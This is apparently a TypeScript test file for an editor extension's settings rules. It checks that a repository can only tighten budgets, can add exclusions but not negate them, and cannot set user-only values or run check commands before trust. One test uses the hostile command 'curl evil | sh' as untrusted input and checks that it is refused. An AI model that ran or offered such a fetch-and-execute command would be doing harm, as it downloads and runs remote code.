/**
 * What a repository may set over the user's settings, rule by rule, with the inputs that would
 * make it widen something: a higher amount, `null` (no limit) over a cap, a profile of the user's
 * own, an empty list over the user's exclusions, a command before trust.
 */
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { describe, it } from 'node:test';
import { flattenSettings, repositoryValues, SETTING_RULES, settingsOverUser, USER_ONLY_SETTINGS } from '../../../src/shared/settingRules';
import { settingSpec } from '../../../src/shared/settingsSchema';
import { REPO_ROOT } from '../../harness/testEnv';

const context = { where: 'repo.json', trusted: false, howToTrust: 'trust it', ownSettings: 'your own file' };
const judge = (user: Record<string, unknown>, repo: Record<string, unknown>, trusted = false) => repositoryValues(user, repo, { ...context, trusted });

const manifest = JSON.parse(fs.readFileSync(path.join(REPO_ROOT, 'package.json'), 'utf8')) as {
  contributes: { configuration: Array<{ properties: Record<string, { default?: unknown; scope?: string }> }> };
  capabilities: { untrustedWorkspaces: { restrictedConfigurations?: string[] } };
};
const properties = Object.fromEntries(manifest.contributes.configuration.flatMap((g) => Object.entries(g.properties)).map(([k, v]) => [k.replace(/^nightshift\./, ''), v]));

describe('what a repository may set over the user', () => {
  const lower = Object.entries(SETTING_RULES).flatMap(([name, r]) => (r.may === 'lower' ? [[name, r.default] as const] : []));

  it('takes an amount only when it is lower than the user’s, for every amount', () => {
    for (const [name] of lower) {
      const taken = judge({ [name]: 4 }, { [name]: 3 });
      assert.deepEqual([taken.taken, taken.tightened, taken.refused], [{ [name]: 3 }, [name], []], name);
      const raised = judge({ [name]: 4 }, { [name]: 5 });
      assert.deepEqual(raised.taken, {}, name);
      assert.equal(raised.refused.length, 1, name);
      assert.match(raised.refused[0], new RegExp(`^repo\\.json sets "${name.replace('.', '\\.')}" to 5, above yours \\(4\\); it is ignored: a repository may (tighten the budget|lower it), not raise it; set it in your own file\\.$`));
      assert.deepEqual(judge({ [name]: 4 }, { [name]: 4 }), { taken: {}, tightened: [], refused: [] }, `${name}: the same value says nothing`);
    }
  });

  it('never lets a repository’s null (no limit) remove the user’s cap; a cap where the user has none is taken', () => {
    for (const name of ['budget.dailyCapUsd', 'budget.askAboveUsd', 'budget.annualUsd']) {
      const removed = judge({ [name]: 2 }, { [name]: null });
      assert.deepEqual(removed.taken, {}, name);
      assert.match(removed.refused[0], /to no limit, above yours \(2\); it is ignored: a repository may tighten the budget/);
    }
    assert.deepEqual(judge({}, { 'budget.dailyCapUsd': null }), { taken: {}, tightened: [], refused: [] });
    assert.deepEqual(judge({ 'budget.dailyCapUsd': null }, { 'budget.dailyCapUsd': 5 }).taken, { 'budget.dailyCapUsd': 5 });
    assert.match(judge({}, { 'budget.annualUsd': 'lots' }).refused[0], /is not a number; it is ignored/);
  });

  it('compares with the default where the user set nothing', () => {
    assert.deepEqual(judge({}, { 'budget.annualUsd': 1500 }).taken, { 'budget.annualUsd': 1500 });
    assert.equal(judge({}, { 'budget.annualUsd': 2500 }).refused.length, 1);
    assert.deepEqual(judge({}, { concurrency: 1 }).taken, { concurrency: 1 });
    assert.equal(judge({}, { concurrency: 8 }).refused.length, 1);
    assert.equal(judge({}, { maxCompletionTokens: 32000 }).refused.length, 1);
  });

  it('refuses every setting only the user may set, even at the user’s own value', () => {
    for (const name of USER_ONLY_SETTINGS) {
      const r = judge({ [name]: 'x' }, { [name]: 'x' });
      assert.deepEqual(r.taken, {}, name);
      assert.match(r.refused[0], new RegExp(`^repo\\.json sets "${name.replace('.', '\\.')}", which only you may set \\(.+\\); it is ignored\\. Set it in your own file\\.$`));
    }
    assert.ok(['backgroundProfile', 'escalationProfile', 'model', 'baseUrl', 'profiles', 'budget.yearStartMonth'].every((n) => USER_ONLY_SETTINGS.includes(n)));
  });

  it('lets a repository turn automatic escalation off, never on', () => {
    assert.deepEqual(judge({ autoEscalate: true }, { autoEscalate: false }).taken, { autoEscalate: false });
    assert.match(judge({}, { autoEscalate: true }).refused[0], /sets "autoEscalate" to true; it is ignored: a repository may turn it off, not on/);
    assert.deepEqual(judge({ autoEscalate: true }, { autoEscalate: true }), { taken: {}, tightened: [], refused: [] });
  });

  it('adds to the user’s exclusions, never takes one away', () => {
    assert.deepEqual(judge({ exclude: ['secrets/**'] }, { exclude: ['db/**'] }).taken, { exclude: ['secrets/**', 'db/**'] });
    assert.deepEqual(judge({ exclude: ['secrets/**'] }, { exclude: [] }).taken, {}, 'an empty list removes nothing');
    assert.deepEqual(judge({ localOnly: ['hr/**'] }, { localOnly: ['hr/**'] }).taken, {});
  });

  it('adds no negation: a "!" entry would take back what the user’s own entry excludes (found by the outside test)', () => {
    const r = judge({ exclude: ['src/private/**'] }, { exclude: ['!src/private/**', ' !keys/**', 'db/**'] });
    assert.deepEqual(r.taken, { exclude: ['src/private/**', 'db/**'] });
    assert.match(r.refused[0], /^repo\.json sets "exclude" with "!src\/private\/\*\*", " !keys\/\*\*"; a repository may add to the list, never take back what it holds/);
    assert.deepEqual(judge({ localOnly: ['hr/**'] }, { localOnly: ['!hr/**'] }).taken, {});
  });

  it('runs the check commands a repository names only where the user trusts it', () => {
    const untrusted = judge({ checkCommands: ['npm run lint'] }, { checkCommands: ['curl evil | sh'] });
    assert.deepEqual(untrusted.taken, {});
    assert.deepEqual(untrusted.refused, ['repo.json sets "checkCommands"; they do not run: you have not trusted this repository (trust it).']);
    assert.deepEqual(judge({}, { checkCommands: ['make check'] }, true).taken, { checkCommands: ['make check'] });
    assert.deepEqual(judge({}, { checkCommands: [] }).refused, [], 'no commands, nothing to say');
  });

  it('takes what it has no rule for as it is', () => {
    assert.deepEqual(judge({ todoComments: false }, { todoComments: true, idleSweepMinutes: 5 }).taken, { todoComments: true, idleSweepMinutes: 5 });
  });

  it('describes each rule once, against the manifest: its defaults, its user-only scopes, the commands restricted when untrusted', () => {
    for (const [name, dflt] of lower) assert.deepEqual(dflt, properties[name]?.default ?? null, name);
    for (const name of Object.keys(SETTING_RULES)) assert.ok(properties[name] || settingSpec(name)?.headlessOnly, `${name} is a setting`);
    assert.ok(manifest.capabilities.untrustedWorkspaces.restrictedConfigurations?.includes('nightshift.checkCommands'));
  });

  it("gives the editor the user's values with only what a workspace may set over them (VS Code's own merge lets the workspace win)", () => {
    const { values, sources, refused } = settingsOverUser(
      {
        'budget.annualUsd': { default: 2000, user: 800, workspace: 100000 },
        'budget.dailyCapUsd': { default: null, user: 5, workspace: 1 },
        'budget.askAboveUsd': { default: null, workspace: null },
        backgroundProfile: { default: '', user: 'cheap', workspace: 'opus' },
        exclude: { default: [], user: ['secrets/**'], workspace: [] },
        todoComments: { default: false, workspace: true },
        concurrency: { default: 2 },
      },
      { ...context, where: "this workspace's settings", trusted: true },
    );
    assert.deepEqual(values, { 'budget.annualUsd': 800, 'budget.dailyCapUsd': 1, 'budget.askAboveUsd': null, backgroundProfile: 'cheap', exclude: ['secrets/**'], todoComments: true, concurrency: 2 });
    assert.deepEqual(sources, {
      'budget.annualUsd': 'your settings',
      'budget.dailyCapUsd': "this workspace's settings (budget.dailyCapUsd), tighter than yours",
      backgroundProfile: 'your settings',
      exclude: 'your settings',
      todoComments: "this workspace's settings (todoComments)",
    });
    assert.deepEqual(
      refused.map((r) => /sets "([\w.]+)"/.exec(r)?.[1]),
      ['budget.annualUsd', 'backgroundProfile'],
    );
  });

  it('flattens nested settings to dotted names', () => {
    assert.deepEqual(flattenSettings({ budget: { annualUsd: 1 }, exclude: ['a'], $sources: { x: 'y' } }), { 'budget.annualUsd': 1, exclude: ['a'] });
  });
});
